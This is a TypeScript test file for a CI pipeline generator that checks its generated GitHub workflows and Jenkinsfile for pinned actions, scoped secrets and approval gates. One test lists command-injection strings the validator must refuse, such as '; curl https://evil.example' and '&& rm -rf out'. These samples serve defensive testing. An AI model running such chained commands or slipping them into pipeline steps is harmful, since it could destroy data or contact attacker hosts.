import { readFileSync } from "node:fs"
import { describe, expect, test } from "vitest"
import { parse } from "yaml"
import { parseConfig, parseEnvironment } from "../../../src/config/index.ts"
import { expectedFiles } from "../../../src/wrappers/cli.ts"
import { preCommitHook, wrapperFiles } from "../../../src/wrappers/index.ts"
import { jenkinsLines, type Line, pipelineCall, workflowLines } from "./calls.ts"

const expression = (text: string): string => `\${{ ${text} }}`
const workflowPaths = [
  ".github/workflows/test.yml",
  ".github/workflows/build-deploy.yml",
  ".github/workflows/security.yml",
] as const
const paths = [...workflowPaths, "Jenkinsfile"] as const
const files = Object.fromEntries(paths.map((path) => [path, readFileSync(path, "utf8")]))
const text = (path: (typeof paths)[number]): string => files[path] ?? ""
const workflows = workflowPaths.flatMap((path) => workflowLines(text(path)))
const jenkins = jenkinsLines(text("Jenkinsfile"))

test.each(paths)("%s is what the generator writes", (path) => {
  expect(text(path)).toBe(expectedFiles(".")[path])
})

describe("the committed files hold calls and no logic", () => {
  test("every run: of the workflows is one pipeline call", () => {
    for (const line of workflows) expect(pipelineCall(line.text)).toMatch(/^dagger call /)
  })

  test("every sh of the Jenkinsfile is one pipeline call", () => {
    for (const line of jenkins) expect(pipelineCall(line.text)).toMatch(/^dagger call /)
  })

  test.each([
    "dagger call gates assert; curl https://evil.example",
    "dagger call gates assert && rm -rf out",
    `dagger call release --tag ${expression("github.ref_name")}`,
    "dagger call release --tag $(cat tag)",
    "dagger call release --tag `cat tag`",
    "npm ci",
    "",
  ])("%j would be refused", (line) => {
    expect(() => pipelineCall(line)).toThrow("not a pipeline call")
  })

  test.each([`sh "dagger call \${x}"`, "sh(script: line)", "bat 'x'", "sh '''\nx\n'''"])(
    "%j in a Jenkinsfile would be refused",
    (step) => {
      const lines = () => jenkinsLines(`steps { ${step} }`).map((line) => pipelineCall(line.text))
      expect(lines).toThrow()
    },
  )

  test("both servers run the same calls in the same order", () => {
    // The files list their jobs in another order; within a job, and what its jobs are, must not differ.
    const jobs = (lines: readonly Line[]) => {
      const calls = Map.groupBy(lines, (line) => line.job).values()
      return new Set([...calls].map((of) => of.map((line) => pipelineCall(line.text)).join("\n")))
    }
    expect(jobs(jenkins)).toEqual(jobs(workflows))
    expect(jobs(workflows).size).toBeGreaterThan(7)
  })
})

describe("every job", () => {
  const ids = [...new Set(workflows.map((line) => line.job))]

  test.each(ids)("%s makes one acting call and one export that always runs", (id) => {
    const lines = workflows.filter((line) => line.job === id)
    const handOvers = lines.filter((line) => line.text.includes("GITHUB_OUTPUT"))
    const exports = lines.filter(
      (line) => / export --path out\//.test(line.text) && !handOvers.includes(line),
    )
    expect(exports).toHaveLength(1)
    expect(lines.length - exports.length - handOvers.length).toBe(1)
    expect(exports[0]?.always || lines[0] === exports[0]).toBe(true)
    expect(handOvers).toHaveLength(id === "release-staging" ? 1 : 0)
  })

  test("of Jenkins exports in post always, or before its other call", () => {
    const exporting = jenkins.filter(({ text }) => / (?!files)\S+ export --path /.test(text))
    for (const line of exporting) {
      const first = jenkins.find((one) => one.job === line.job)
      expect(line.always || first === line).toBe(true)
    }
  })

  test("G06 clones the whole history with the files of Git LFS, persists no credential and has only the permissions it needs", () => {
    for (const path of workflowPaths) {
      const workflow = parse(text(path))
      expect(workflow.permissions).toEqual({})
      for (const [id, job] of Object.entries<{
        permissions: object
        steps: { uses?: string; with?: object }[]
      }>(workflow.jobs)) {
        expect(job.permissions).toEqual({
          contents: "read",
          ...(id === "gates" || id === "security" ? { "security-events": "write" } : {}),
        })
        expect(job.steps[0]?.with).toEqual({ "fetch-depth": 0, lfs: true, "persist-credentials": false })
        for (const { uses } of job.steps)
          expect(uses ?? "a@v1.2.3").toMatch(/@(?:[0-9a-f]{40}|v\d+\.\d+\.\d+)$/)
      }
    }
  })

  test("passes each secret only to the calls that read it", () => {
    for (const path of workflowPaths) {
      const { jobs } = parse(text(path))
      for (const job of Object.values<{
        env?: object
        steps: { run?: string; env?: Record<string, string> }[]
      }>(jobs)) {
        expect(job.env).toBeUndefined()
        for (const { run = "", env = {} } of job.steps) {
          const given = Object.keys(env).filter((name) => env[name]?.includes("secrets."))
          const read = [...run.matchAll(/env:\/\/(\w+)/g)].map((match) => match[1])
          expect(given.sort()).toEqual([...new Set(read)].sort())
        }
      }
    }
  })

  test("keeps reports of gates and environments for 30 days, the output of a build for 7", () => {
    const kept = workflowPaths.flatMap((path) => {
      const { jobs } = parse(text(path))
      const steps = Object.values<{
        steps: { uses?: string; if?: string; with?: Record<string, unknown> }[]
      }>(jobs)
      return steps.flatMap((job) =>
        job.steps.filter(({ uses }) => uses?.startsWith("actions/upload-artifact@")),
      )
    })
    expect(kept.map((step) => step.if)).toEqual(kept.map(() => "always()"))
    const days = new Map(kept.map((step) => [step.with?.path, step.with?.["retention-days"]]))
    expect(Object.fromEntries(days)).toEqual({
      ...{ "out/gates": 30, "out/build": 7 },
      ...{ "out/development": 30, "out/staging": 30, "out/production": 30 },
    })
  })

  test("C19 that changes an environment runs alone there and is never cancelled", () => {
    const { jobs } = parse(text(".github/workflows/build-deploy.yml"))
    // A group has one waiting run, so that runs of another ref would cancel a tag that waits.
    for (const name of [
      "deploy-development",
      "deploy-staging",
      "tag-staging",
      "release-staging",
      "release-production",
    ]) {
      const environment = name.replace(/^\w+-/, "")
      expect(jobs[name]).toMatchObject({
        environment,
        concurrency: {
          group: `signalbox-${environment}-${expression("github.ref")}`,
          "cancel-in-progress": false,
        },
      })
      expect(text("Jenkinsfile")).toContain(`lock(resource: 'signalbox-${environment}')`)
    }
  })
})

const version = "startsWith(github.ref, 'refs/tags/v') && contains(github.ref_name, '.')"
const candidate = `${version} && contains(github.ref_name, '-')`

describe("the jobs of a ref", () => {
  test("begin with every pull request, and every push to a branch or tag that goes somewhere", () => {
    const [checked, deployed] = workflowPaths.map((path) => parse(text(path)).on)
    expect(checked).toEqual({ pull_request: null, push: { branches: ["main", "develop"] } })
    expect(deployed).toEqual({
      push: { branches: ["feature/*", "main", "develop"], tags: ["v*.*.*-*", "v*.*.*"] },
    })
  })

  const { on, jobs } = parse(text(".github/workflows/build-deploy.yml"))

  test("follow the patterns of signalbox.yaml", () => {
    expect(on.push).toEqual({ branches: ["feature/*", "main", "develop"], tags: ["v*.*.*-*", "v*.*.*"] })
  })

  test.each([
    ["deploy-development", "startsWith(github.ref, 'refs/heads/feature/')"],
    ["deploy-staging", "github.ref == 'refs/heads/main' || github.ref == 'refs/heads/develop'"],
    ["tag-staging", candidate],
    ["release-staging", `${version} && !(${candidate})`],
    ["release-production", `${version} && !(${candidate})`],
  ])("%s runs if %s", (job, condition) => {
    expect(jobs[job].if).toBe(condition)
  })

  test("to production go through staging, the plan's hash and an approval", () => {
    expect(jobs["release-production"].needs).toBe("release-staging")
    expect(jobs["release-staging"].outputs).toEqual({ hash: expression("steps.plan.outputs.hash") })
    const act = jobs["release-production"].steps.find((step: { run?: string }) =>
      step.run?.includes("--approve"),
    )
    expect(act.env.RELEASE_APPROVE).toBe(expression("needs.release-staging.outputs.hash"))
    const stages = [...text("Jenkinsfile").matchAll(/stage\('([^']+)'\)/g)].map((match) => match[1])
    const at = (title: string) => stages.indexOf(title)
    expect(at("Release to staging, plan production")).toBeLessThan(at("Approve production"))
    expect(at("Approve production")).toBeLessThan(at("Release to production"))
  })

  test("have the six stages of the Jenkins pipeline", () => {
    const stages = [...text("Jenkinsfile").matchAll(/^ {4}stage\('([^']+)'\)/gm)].map((match) => match[1])
    expect(stages).toEqual([
      "Preparation",
      "Quality Gates",
      "Build & Test",
      "Docker Images",
      "Deployment",
      "Post-Deploy Testing",
    ])
  })
})

describe("the nightly scan", () => {
  const { on, jobs } = parse(text(".github/workflows/security.yml"))
  const nightly = { scan: 'dagger call --git . --policy-ref "$RELEASE_POLICY" gates --context release ' }

  test("starts at 02:00 UTC and on demand, on both servers, and there for one branch", () => {
    expect(on).toEqual({ schedule: [{ cron: "0 2 * * *" }], workflow_dispatch: null })
    expect(text("Jenkinsfile")).toContain("cron(env.BRANCH_NAME == 'main' ? 'TZ=UTC\\n0 2 * * *' : '')")
  })

  test("judges by the rules of a release, keeps the reports for 30 days and sends alerts", () => {
    const { steps } = jobs.security
    const runs = steps.flatMap(({ run }: { run?: string }) => run ?? [])
    expect(runs).toEqual([`${nightly.scan}reports export --path out/gates`, `${nightly.scan}assert`])
    const uses = (name: string) => steps.find((step: { uses?: string }) => step.uses?.includes(name))
    expect(uses("upload-artifact")).toMatchObject({ if: "always()", with: { "retention-days": 30 } })
    expect(uses("upload-sarif")).toMatchObject({ with: { sarif_file: "out/gates/report.sarif" } })
  })

  test("of Jenkins runs alone: a build that the clock has started builds, publishes and deploys nothing", () => {
    const stages = text("Jenkinsfile")
      .split(/(?=stage\('[^']+'\) \{\n +(?:when|agent))/)
      .slice(1)
    const woken = stages.filter((stage) => !stage.includes("not { triggeredBy 'TimerTrigger' }"))
    expect(woken.map((stage) => /stage\('([^']+)'/.exec(stage)?.[1])).toEqual(["Preparation", "Security"])
    expect(woken[1]).toContain("            triggeredBy 'TimerTrigger'\n")
    expect(stages.length).toBeGreaterThan(9)
  })
})

describe("what a tree could choose for the call that judges it", () => {
  test("V04 repository and policy are named by every call that is held against the policy", () => {
    const held = workflows.filter(({ text }) => / (gates|publish|release|plan|deploy) --/.test(text))
    expect(held.length).toBeGreaterThan(8)
    for (const { text } of held)
      expect(text).toMatch(/^dagger call --git \. --policy-ref "\$RELEASE_POLICY" /)
  })

  test("V37 a pull request whose head repository is not known to be this one is a fork's", () => {
    const { jobs } = parse(text(paths[0]))
    const { env } = jobs.gates.steps.find((step: { run?: string }) => step.run?.includes("assert"))
    // By GitHub's rules null equals no text, so that a deleted head repository gives 'fork'.
    expect(env.RELEASE_CONTEXT).toBe(
      expression(
        "(github.event_name != 'pull_request' || github.event.pull_request.head.repo.full_name == github.repository) && 'branch' || 'fork'",
      ),
    )
    expect(env.RELEASE_POLICY).toBe(`refs/remotes/origin/${expression("github.base_ref || 'main'")}`)
  })

  test("V22 the code of a fork builds in the context of a fork", () => {
    const builds = workflows.filter(({ job }) => job === "build")
    expect(builds).toHaveLength(2)
    for (const { text } of builds) expect(text).toContain('build --context "$RELEASE_CONTEXT" ')
  })
})

describe("what the gates' verdict does not depend on", () => {
  test("G23 an upload of SARIF that is not allowed fails no job", () => {
    const { jobs } = parse(text(paths[0]))
    const upload = jobs.gates.steps.find((step: { uses?: string }) => step.uses?.includes("upload-sarif"))
    expect(upload["continue-on-error"]).toBe(true)
  })

  test("V38 every action is named by a commit", () => {
    for (const path of workflowPaths) {
      const uses = [...text(path).matchAll(/uses: (\S+)/g)].map((match) => match[1])
      expect(uses.length).toBeGreaterThan(2)
      for (const one of uses) expect(one).toMatch(/@[0-9a-f]{40}$/)
    }
  })

  test("V39 the plan that is printed is the one whose hash is approved", () => {
    const { jobs } = parse(text(paths[1]))
    const plan = jobs["release-staging"].steps.find((step: { id?: string }) => step.id === "plan")
    expect(plan.run).toMatch(
      / files export --path out\/staging\/plan && cat out\/staging\/plan\/plan\.md && echo "hash=\$\(cat out\/staging\/plan\/plan\.hash\)"/,
    )
    expect(text("Jenkinsfile")).toContain(
      "script { echo readFile('out/staging/plan/plan.md'); env.RELEASE_APPROVE = readFile('out/staging/plan/plan.hash').trim() }",
    )
  })
})

describe("another project", () => {
  const config = (refs: string) =>
    parseConfig(
      `schemaVersion: 1
project: shop
registry: registry.example
components: { web: { path: web, language: node, kind: static } }
environments: [staging, eu-production]
refs: ${refs}
`,
      "signalbox.yaml",
    )
  const environment = (name: string, more = "") =>
    parseEnvironment(
      `schemaVersion: 1
name: ${name}
namespace: shop
release: shop
access: { kind: service-proxy, component: web }
${more}`,
      `${name}.yaml`,
    )
  const staging = environment("staging")
  const production = environment("eu-production", "protected: true\npromotesFrom: staging\n")
  const environments = { staging, "eu-production": production }

  test("calls the module by its address, with the project's own directories", () => {
    const files = wrapperFiles(
      config("[{ branch: main, environment: staging }]"),
      environments,
      "example.com/x@v1",
    )
    for (const line of jenkinsLines(files.Jenkinsfile ?? "")) {
      expect(pipelineCall(line.text)).toMatch(/^dagger call -m example\.com\/x@v1 --source \. --git \. /)
    }
  })

  test("has one secret per environment", () => {
    const files = wrapperFiles(config("[{ tag: 'v*', environment: eu-production }]"), environments)
    expect(files[".github/workflows/build-deploy.yml"]).toContain("env://KUBECONFIG_EU_PRODUCTION")
  })

  test.each([
    ["branches", "{ branch: main, environment: staging }", ["main"]],
    ["tags", "{ tag: 'v*', environment: eu-production }", ["v*"]],
  ])("starts for %s alone where nothing else deploys: GitHub takes no empty list", (kind, ref, patterns) => {
    const files = wrapperFiles(config(`[${ref}]`), environments)
    const { on } = parse(files[".github/workflows/build-deploy.yml"] ?? "")
    expect(on.push).toEqual({ [kind]: patterns })
  })

  test("has no workflow that deploys where nothing does: GitHub takes none without a job", () => {
    expect(Object.keys(wrapperFiles(config("[]"), environments))).toEqual([
      ".github/workflows/test.yml",
      ".github/workflows/security.yml",
      "Jenkinsfile",
    ])
  })

  test("passes the Dockerfiles' secrets to the calls that build, and to no others", () => {
    const text = `schemaVersion: 1
project: shop
registry: registry.example/shop
components:
  web: { path: web, language: dockerfile, secrets: [npm_token, pip.conf] }
  api: { path: api, language: dockerfile, secrets: [npm_token] }
  cache: { image: registry.example/tools/cache@sha256:${"a".repeat(64)} }
environments: [staging, eu-production]
refs: [{ branch: main, environment: staging }, { tag: "v*", environment: eu-production }]
`
    const files = wrapperFiles(parseConfig(text, "signalbox.yaml"), environments)
    const calls = jenkinsLines(files.Jenkinsfile ?? "").map((line) => pipelineCall(line.text))
    const secrets =
      "with-build-secret --name npm_token --value env://NPM_TOKEN with-build-secret --name pip.conf --value env://PIP_CONF "
    for (const call of calls) {
      const builds = / (gates|build|publish|release) /.test(call)
      expect(call.includes(secrets), call).toBe(builds)
      // An image of the project's own registry can be private.
      if (builds) expect(call).toContain("--registry-token env://REGISTRY_TOKEN")
    }
    expect(calls.length).toBeGreaterThan(8)
    expect(files[".github/workflows/test.yml"]).toContain(`NPM_TOKEN: ${expression("secrets.NPM_TOKEN")}`)
  })

  test.each([
    ["registry.example", true],
    ["elsewhere.example", false],
  ])(
    "gives the gates the registry's token for a shared policy in the project's registry: %s",
    (host, isGiven) => {
      const text = `schemaVersion: 1
project: shop
registry: registry.example/shop
extends: ${host}/platform/policy@sha256:${"a".repeat(64)}
components: { web: { path: web, language: node, kind: static } }
environments: [staging]
`
      const workflow = wrapperFiles(parseConfig(text, "signalbox.yaml"), environments)[
        ".github/workflows/test.yml"
      ]
      expect(workflow?.includes("--registry-token env://REGISTRY_TOKEN")).toBe(isGiven)
    },
  )

  test("passes the signing key to the calls that publish, deploy and test, where the policy lists keys", () => {
    const key = "--signing-key env://SIGNING_KEY --signing-key-password env://SIGNING_KEY_PASSWORD"
    const pem = "-----BEGIN PUBLIC KEY-----\nMCowBQYDK2VwAyEA\n-----END PUBLIC KEY-----\n"
    const own = config("[{ branch: main, environment: staging }, { tag: 'v*', environment: eu-production }]")
    const callsOf = (signingKeys: typeof own.signingKeys) => {
      const { Jenkinsfile = "" } = wrapperFiles({ ...own, signingKeys }, environments)
      return jenkinsLines(Jenkinsfile).map((line) => pipelineCall(line.text))
    }
    const calls = callsOf([{ name: "release", publicKey: pem }])
    for (const call of calls)
      expect(call.endsWith(key), call).toBe(/ (publish|deploy|release|smoke) --/.test(call))
    expect(calls.filter((call) => call.endsWith(key)).length).toBeGreaterThan(5)
    expect(callsOf([]).join("\n")).not.toContain("signing")
  })

  test("releases through every environment of the chain, each with its own secret", () => {
    const all = {
      dev: environment("dev"),
      qa: environment("qa", "promotesFrom: dev\n"),
      staging: environment("staging", "promotesFrom: qa\n"),
      "eu-production": production,
    }
    const files = wrapperFiles(config("[{ tag: 'v*', environment: eu-production }]"), all)
    const calls = jenkinsLines(files.Jenkinsfile ?? "").map((line) => pipelineCall(line.text))
    const releases = calls.filter((call) => call.includes(" release --tag "))
    expect(releases).toHaveLength(2)
    for (const call of releases)
      expect(call).toMatch(
        / with-access --environment dev --kubeconfig env:\/\/KUBECONFIG_DEV with-access --environment qa --kubeconfig env:\/\/KUBECONFIG_QA release --tag .* --kubeconfig env:\/\/KUBECONFIG_EU_PRODUCTION --from-kubeconfig env:\/\/KUBECONFIG_STAGING/,
      )
    const workflow = files[".github/workflows/build-deploy.yml"] ?? ""
    for (const name of ["DEV", "QA", "STAGING", "EU_PRODUCTION"])
      expect(workflow).toContain(`KUBECONFIG_${name}: \${{ secrets.KUBECONFIG_${name} }}`)
  })

  test.each([
    [
      "a branch to a protected environment",
      "[{ branch: main, environment: eu-production }]",
      "which is protected",
    ],
    [
      "a tag to a protected environment that promotes from none",
      "[{ tag: 'v*', environment: eu-production }]",
      "promotes from no environment",
      { "eu-production": { ...production, promotesFrom: null } },
    ],
  ])("cannot deploy %s", (_, refs, message, more: object = {}) => {
    expect(() => wrapperFiles(config(refs), { ...environments, ...more })).toThrow(message)
  })

  test("C17 releases a tag to a single environment in one job", () => {
    const files = wrapperFiles(config("[{ tag: 'v*.*.*-*', environment: staging }]"), environments)
    const { jobs } = parse(files[".github/workflows/build-deploy.yml"] ?? "")
    expect(Object.keys(jobs)).toEqual(["tag-staging"])
    expect(jobs["tag-staging"].if).toBe(candidate)
    expect(files.Jenkinsfile).toContain("anyOf { tag 'v*.*.*-*' }")
  })

  test("C17 gives a ref to the first rule that matches it, on both servers", () => {
    const refs = "[{ tag: 'v*.*.*-*', environment: staging }, { tag: 'v*.*.*', environment: eu-production }]"
    const files = wrapperFiles(config(refs), environments)
    expect(files.Jenkinsfile).toContain(
      "allOf { not { triggeredBy 'TimerTrigger' }; anyOf { tag 'v*.*.*' }; not { anyOf { tag 'v*.*.*-*' } } }",
    )
    const { jobs } = parse(files[".github/workflows/build-deploy.yml"] ?? "")
    expect(jobs["release-eu-production"].if).toBe(`${version} && !(${candidate})`)
  })

  test("V23 names who may approve, and records who did", () => {
    const guarded = environment(
      "eu-production",
      "protected: true\npromotesFrom: staging\napprovers: [ann, 'ops team']\n",
    )
    const refs = config("[{ tag: 'v*', environment: eu-production }]")
    const { Jenkinsfile = "" } = wrapperFiles(refs, { staging, "eu-production": guarded })
    expect(Jenkinsfile).toMatch(/input\(.*submitter: 'ann,ops team', submitterParameter: 'APPROVER'\)/)
    expect(Jenkinsfile).toMatch(/env\.RELEASE_ACTOR = env\.BUILD_URL \+ ' approved by ' \+ input/)
  })

  test("cannot have two targets whose patterns one branch could match", () => {
    const refs =
      "[{ branch: 'release/*', environment: staging }, { branch: 'release/eu/*', environment: dev }]"
    const text = `schemaVersion: 1
project: shop
registry: registry.example
components: { web: { path: web, language: node, kind: static } }
environments: [staging, dev]
refs: ${refs}
`
    const all = { staging, dev: environment("dev") }
    expect(() => wrapperFiles(parseConfig(text, "signalbox.yaml"), all)).toThrow(
      "cannot be told apart: release/* and release/eu/*",
    )
  })

  test("cannot deploy to an environment without a file", () => {
    expect(() => wrapperFiles(config("[{ branch: main, environment: staging }]"), {})).toThrow("has no file")
  })
})

describe("sibling of V06: a build secret", () => {
  const filesWith = (secrets: string) => {
    const config = parseConfig(
      `schemaVersion: 1
project: shop
registry: r.example/team
components:
  web: { path: web, language: dockerfile, secrets: [${secrets}] }
environments: [staging]
`,
      "signalbox.yaml",
    )
    const staging = parseEnvironment(
      "schemaVersion: 1\nname: staging\nnamespace: s\nrelease: s\naccess: { kind: service-proxy, component: web }\n",
      "staging.yaml",
    )
    return wrapperFiles(config, { staging })
  }

  test.each([
    "kubeconfig_production",
    "KUBECONFIG-STAGING",
    "registry_token",
    "signing-key",
    "signing.key.password",
    "release_approve",
  ])("called %s would give a Dockerfile a credential of ours: 13", (name) => {
    expect(() => filesWith(name)).toThrow(/USAGE[\s\S]*a variable that Signalbox itself is given/)
  })

  test.each(["npm_token, npm.token", "a-b, A_B"])("%s would be one and the same: 13", (names) => {
    expect(() => filesWith(names)).toThrow(/USAGE[\s\S]*is also that of/)
  })

  test("of any other name is passed on", () => {
    expect(filesWith("npm_token, my_signing_key").Jenkinsfile).toContain("--value env://MY_SIGNING_KEY")
  })
})

describe("the hook of git", () => {
  test.each([
    [undefined, /^dagger call --git \. gates --only typecheck --only lint --affected HEAD assert --partial$/],
    ["example.com/x@v1", /^dagger call -m example\.com\/x@v1 --source \. --git \. gates --only typecheck /],
  ])("is one pipeline call of the module at %s", (module, call) => {
    const [shell, ...lines] = preCommitHook(["typecheck", "lint"], module).split("\n")
    const code = lines.filter((line) => line !== "" && !line.startsWith("#"))
    expect(shell).toBe("#!/bin/sh")
    expect(code).toHaveLength(1)
    expect(pipelineCall(code[0]?.replace(/^exec /, "") ?? "")).toMatch(call)
  })
})
